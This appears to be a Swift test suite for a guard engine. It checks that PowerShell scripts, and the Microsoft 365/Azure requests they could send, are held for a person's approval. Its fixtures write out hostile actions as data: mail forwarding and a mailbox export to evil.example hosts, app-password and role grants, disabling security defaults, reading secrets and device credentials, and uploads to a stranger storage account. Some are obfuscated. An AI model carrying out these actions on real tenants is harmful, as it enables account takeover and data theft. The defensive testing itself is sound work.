import MMCore
import MMGuard
import Testing

@Suite("What a confined text leaves to the wire", .timeLimit(.minutes(5)))
struct RoadsPastTextTests {
    private static let engine = GuardEngine.standard
    private static let mail = #"{"message":{"subject":"x"}}"#
    private static let storage = "https://stranger.blob.core.windows.net"

    private static func stranger(_ method: String, _ target: String, _ body: String = "") -> WireRequest {
        WireRequest(
            service: .storage, origin: storage, owner: .unknown, method: method, target: target, headers: [],
            body: body.isEmpty ? .none : .whole(Array(body.utf8)))
    }

    /// Scripts that say nothing of what they send, and a request that each could send.
    private static let roads: [(script: String, request: WireRequest)] = [
        (
            "[System.Net.Http.HttpClient]::new().PostAsync($address, $content).Result",
            Wire.request(.graph, "POST", "/v1.0/users/ceo@contoso.com/sendMail", mail)
        ),
        (
            "$c = [Net.Http.HttpClient]::new(); $m = [Net.Http.HttpRequestMessage]::new('DELETE', $u); $c.Send($m)",
            Wire.request(.graph, "DELETE", "/v1.0/users/ceo@contoso.com")
        ),
        (
            "$r = [System.Net.WebRequest]::Create($u); $r.Method = $m; $r.GetResponse()",
            Wire.request(.graph, "PATCH", "/v1.0/users/ceo@contoso.com", #"{"accountEnabled":false}"#)
        ),
        (
            "$w = New-Object ('System.Net.'+'WebClient'); $w.UploadString($u, $m, $text)",
            Wire.request(.arm, "PUT", WireRequestTests.vm + "/extensions/x?api-version=2023-03-01", "{}")
        ),
        ("$w = New-Object ('System.Net.'+'WebClient'); $w.UploadFile($u, $f)", stranger("PUT", "/c/f", "a,b")),
        ("[Net.Http.HttpClient]::new().GetStringAsync($u + $text).Result", stranger("GET", "/c/f?d=c2VjcmV0")),
        ("irm $u -Method Post -Body $text", Wire.request(nil, "POST", "/collect", "{}")),
        ("irm $u -Method Put -InFile list.csv", stranger("PUT", "/c/list.csv", "a,b")),
        ("iwr -Uri $u -Method $m -Body $b", Wire.request(.graph, "POST", "/v1.0/applications/x/addPassword", "{}")),
        ("irm $u", Wire.request(.keyVault, "GET", "/secrets/db?api-version=7.4")),
        (
            "irm -Uri $u -Headers $h",
            Wire.request(.graph, "GET", "/v1.0/directory/deviceLocalCredentials/d?$select=credentials")
        ),
        (
            "$context.Load($list); Invoke-PnPQuery",
            Wire.request(
                .sharePoint, "POST", ObjectRequestTests.address,
                Wire.objects(#"<Method Name="DeleteObject" Id="9" ObjectPathId="3" />"#, Wire.list))
        ),
        (
            "Invoke-PnPQuery",
            Wire.request(
                .sharePoint, "POST", ObjectRequestTests.address,
                Wire.objects(
                    #"<Method Name="BreakRoleInheritance" Id="9" ObjectPathId="3"><Parameters><Parameter Type="Boolean">false</Parameter><Parameter Type="Boolean">true</Parameter></Parameters></Method>"#,
                    Wire.list))
        ),
        (
            "& (gcm Set-Mailb*) ceo -ForwardingSmtp m@evil.example",
            Wire.request(
                .exchange, "POST", WireRequestTests.invoke,
                Wire.cmdlet("Set-Mailbox", #"{"Identity":"ceo","ForwardingSmtpAddress":"m@evil.example"}"#))
        ),
        (
            "& $name -Mailbox ceo -Name x",
            Wire.request(
                .exchange, "POST", WireRequestTests.invoke,
                Wire.cmdlet("New-InboxRule", #"{"Mailbox":"ceo","Name":"x","ForwardTo":"m@evil.example"}"#))
        ),
        (
            "& (Get-Command $name) -ApplicationId x",
            Wire.request(.graph, "POST", "/v1.0/applications/x/addPassword", "{}")
        ),
        (
            "$all = gcm -Verb $verb; & $all[0]",
            Wire.request(.graph, "POST", "/v1.0/roleManagement/directory/roleAssignments", "{}")
        ),
        (
            "Set-Widget x",
            Wire.request(.exchange, "POST", WireRequestTests.invoke, Wire.cmdlet("Set-Widget"))
        ),
        (
            "& $name",
            Wire.request(
                .exchange, "POST", WireRequestTests.invoke,
                Wire.cmdlet("New-MailboxExportRequest", #"{"Mailbox":"ceo","FilePath":"\\\\evil\\s\\ceo.pst"}"#))
        ),
        (
            "Invoke-MgGraphRequest -Method $m -Uri $u -Body $b",
            Wire.request(
                .graph, "POST", "/v1.0/$batch",
                #"{"requests":[{"id":"1","method":"PATCH","url":"/policies/identitySecurityDefaultsEnforcementPolicy","body":{"isEnabled":false}}]}"#
            )
        ),
        (
            "Invoke-AzRestMethod -Method $m -Path $p -Payload $b",
            Wire.request(.arm, "PUT", "/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", "{}")
        ),
        (
            "InvokeApi -Method $m -Route $r -Body $b",
            Wire.request(
                .bap, "PUT", "/providers/Microsoft.BusinessAppPlatform/scopes/admin/apiPolicies/p?api-version=1", "{}")
        ),
    ]

    @Test("none of it is sent without a person's word", arguments: roads.indices)
    func held(_ index: Int) {
        let road = Self.roads[index]
        let verdict = Self.engine.judge(
            script: road.script, in: ScriptContext(isBehindWire: true), policy: .standard)
        #expect(verdict.decision == .allow, "\(road.script): \(verdict.rule) \(verdict.reason)")
        var grant = RequestGrant(CallAuthority(verdict: verdict, text: road.script), policy: .standard)
        let outcome = RequestGrantTests.word(grant.judge(Self.engine.intent(of: road.request), number: 1))
        #expect(["hold", "denied"].contains(outcome), "\(road.script): \(road.request.line)")
    }

    @Test("every cmdlet of Exchange that changes something is held, whatever called it", arguments: ["exo", "scc"])
    func cmdlets(module: String) {
        for name in CmdletCompletion(module: module).names(startingWith: "") {
            let text = Self.engine.judge(script: name, in: ScriptContext(module: module), policy: .standard)
            guard text.decision != .allow, !text.classes.isSubset(of: [.read]), text.guardClass != .session,
                text.rule == "cmdlet" || text.rule.hasPrefix("seed-")
            else { continue }
            var grant = RequestGrantTests.grant("1")
            let request = Wire.request(.exchange, "POST", WireRequestTests.invoke, Wire.cmdlet(name))
            let outcome = RequestGrantTests.word(grant.judge(Self.engine.intent(of: request), number: 1))
            #expect(["hold", "denied"].contains(outcome), "\(name): \(text.rule)")
        }
    }
}
